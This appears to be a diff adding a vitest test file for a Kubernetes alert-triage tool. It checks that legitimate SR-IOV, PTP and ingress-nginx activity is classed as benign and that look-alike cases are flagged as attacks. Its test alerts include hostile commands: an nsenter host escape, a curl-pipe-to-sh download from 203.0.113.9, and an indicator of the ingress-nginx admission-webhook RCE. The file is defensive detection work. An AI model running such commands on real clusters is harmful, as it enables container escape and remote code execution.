@@ -1,0 +1,112 @@
+/**
+ * Context found in the telco-multus-controlplane validation scenario, as rule tables: SR-IOV, PTP, NFD and
+ * ingress-nginx doing their documented work on a kubeadm cluster — with the traps each must not fall into (a naked
+ * look-alike of the SR-IOV daemon, a descriptor of another process loaded by the ingress controller's nginx).
+ */
+import { describe, expect, it } from 'vitest';
+import type { ProcessInfo } from '../../../src/alerts/model.js';
+import { buildIndex } from '../../../src/cluster/index.js';
+import { triageAlert } from '../../../src/triage/pipeline.js';
+import { alert, containerIdOf, node, owner, pod, snapshot } from '../../support/cluster.js';
+
+const W3 = 'tc-wk-03';
+const CP = 'tc-cp-b';
+const T = (hms: string) => `2027-03-11T${hms}.000Z`;
+const DAEMON_IMG = 'quay.io/openshift/origin-sriov-network-config-daemon:4.16';
+const NS = 'sriov-network-operator';
+
+const daemonDs = owner('DaemonSet', 'sriov-network-config-daemon', NS);
+const daemon = pod('sriov-network-config-daemon-c75gq', {
+  namespace: NS,
+  node: W3,
+  hostNetwork: true,
+  hostPID: true,
+  owner: { kind: 'DaemonSet', name: 'sriov-network-config-daemon' },
+  containers: [{ name: 'sriov-network-config-daemon', image: DAEMON_IMG, command: ['sriov-network-config-daemon'], args: ['start'], securityContext: { privileged: true } }],
+  volumes: [{ name: 'host', hostPath: { path: '/' } }],
+});
+// The same image in the same namespace, but a naked pod pinned to a control-plane node: not the operator's daemon.
+const lookalike = pod('sriov-config-daemon-9gq4t', {
+  namespace: NS,
+  node: CP,
+  hostNetwork: true,
+  hostPID: true,
+  containers: [{ name: 'sriov-network-config-daemon', image: DAEMON_IMG, command: ['/bin/sh', '-c', 'sleep infinity'], securityContext: { privileged: true } }],
+  volumes: [{ name: 'host', hostPath: { path: '/' } }],
+});
+const ptpDs = owner('DaemonSet', 'linuxptp-daemon', 'ptp');
+const ptp = pod('linuxptp-daemon-gdf5z', {
+  namespace: 'ptp',
+  node: W3,
+  hostNetwork: true,
+  owner: { kind: 'DaemonSet', name: 'linuxptp-daemon' },
+  containers: [{ name: 'linuxptp-daemon-container', image: 'quay.io/openshift/origin-ptp:4.16', command: ['/bin/bash', '-c', '--'], args: ['/usr/local/bin/ptp --alsologtostderr -v 10'], securityContext: { privileged: true } }],
+});
+const ingRs = owner('ReplicaSet', 'ingress-nginx-controller-7d9f8', 'ingress-nginx', { kind: 'Deployment', name: 'ingress-nginx-controller' });
+const ingDep = owner('Deployment', 'ingress-nginx-controller', 'ingress-nginx');
+const ing = pod('ingress-nginx-controller-7d9f8-7kkkj', {
+  namespace: 'ingress-nginx',
+  node: W3,
+  ip: '10.244.5.40',
+  owner: { kind: 'ReplicaSet', name: 'ingress-nginx-controller-7d9f8' },
+  containers: [{ name: 'controller', image: 'registry.k8s.io/ingress-nginx/controller:v1.11.2', args: ['/nginx-ingress-controller', '--election-id=ingress-nginx-leader'] }],
+});
+
+const index = buildIndex([snapshot([node(W3, '10.60.0.23'), node(CP, '10.60.0.12'), daemonDs, daemon, lookalike, ptpDs, ptp, ingDep, ingRs, ing])]);
+const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
+const inPod = (p: typeof daemon) => ({ pod: p.metadata.name, namespace: p.metadata.namespace, id: containerIdOf(p), name: p.spec.containers[0].name, image: p.spec.containers[0].image });
+const DAEMON: ProcessInfo = { name: 'sriov-network-config-daemon', path: '/usr/bin/sriov-network-config-daemon', commandLine: '/usr/bin/sriov-network-config-daemon start' };
+const CONTROLLER: ProcessInfo = { name: 'nginx-ingress-controller', path: '/nginx-ingress-controller', commandLine: '/nginx-ingress-controller --election-id=ingress-nginx-leader' };
+const NGINX_TEST: ProcessInfo = { name: 'nginx', path: '/usr/bin/nginx', commandLine: '/usr/bin/nginx -c /tmp/nginx/nginx-cfg3324587123 -t' };
+
+describe('the SR-IOV config daemon preparing VFs', () => {
+  const modprobe = (p: typeof daemon, module: string, parent: ProcessInfo = DAEMON) =>
+    alert({ host: p.spec.nodeName, time: T('00:41:20'), container: inPod(p), process: { name: 'chroot', path: '/usr/sbin/chroot', commandLine: `/usr/sbin/chroot /host modprobe ${module}` }, ancestors: [parent] });
+  it('chroot /host modprobe vfio-pci by the DaemonSet pod is its work', () => {
+    expect(verdict(modprobe(daemon, 'vfio-pci')).label).toBe('likely-false-positive');
+  });
+  it('trap: the same command in a naked look-alike pod (same image and namespace) stays an escape', () => {
+    expect(verdict(modprobe(lookalike, 'vfio-pci', { name: 'sh', path: '/bin/sh', commandLine: '/bin/sh -c sleep infinity' }))).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: an interactive shell of the look-alike entering the host with nsenter', () => {
+    const a = alert({ host: CP, time: T('03:31:47'), container: inPod(lookalike), process: { name: 'nsenter', path: '/usr/bin/nsenter', commandLine: '/usr/bin/nsenter -t 1 -m -u -n -i -p -- /bin/bash' } });
+    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('ingress-nginx: its own config test, and the admission-webhook RCE (CVE-2025-1974)', () => {
+  it('nginx -t started by the controller is the controller at work', () => {
+    const a = alert({ host: W3, time: T('02:10:03'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER] });
+    expect(verdict(a).label).toBe('likely-false-positive');
+  });
+  it("trap: the same nginx -t opening another process's descriptor /proc/<pid>/fd/<n> (the uploaded shared object)", () => {
+    const a = alert({ host: W3, time: T('03:08:44'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER], file: '/proc/31/fd/27' });
+    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it("a process's own descriptors (/proc/self/fd, /dev/fd) are not that indicator", () => {
+    const a = alert({ host: W3, time: T('02:10:03'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER], file: '/proc/self/fd/3' });
+    expect(verdict(a).label).toBe('likely-false-positive');
+  });
+});
+
+describe('linuxptp: ptp4l and phc2sys under the PTP daemon', () => {
+  it('ptp4l opening a packet socket in the linuxptp DaemonSet pod', () => {
+    const a = alert({ host: W3, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(ptp), process: { name: 'ptp4l', path: '/usr/sbin/ptp4l' } });
+    expect(verdict(a).label).toBe('likely-false-positive');
+  });
+  it('trap: a shell in the PTP pod downloading a script', () => {
+    const a = alert({ host: W3, time: T('04:02:44'), container: inPod(ptp), process: { name: 'sh', path: '/bin/sh', commandLine: 'sh -c curl -s http://203.0.113.9/p.sh | sh' } });
+    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('a program of a privileged component doing its privileged work (not the entrypoint)', () => {
+  it('trap: a program the component does not run, opening a packet socket in the same pod', () => {
+    const a = alert({ host: W3, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(ptp), process: { name: 'python3', path: '/usr/bin/python3' } });
+    expect(verdict(a).label).toBe('genuine');
+  });
+  it('trap: ptp4l in the naked SR-IOV look-alike (no PTP component there)', () => {
+    const a = alert({ host: CP, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(lookalike), process: { name: 'ptp4l', path: '/usr/sbin/ptp4l' } });
+    expect(verdict(a).label).toBe('genuine');
+  });
+});
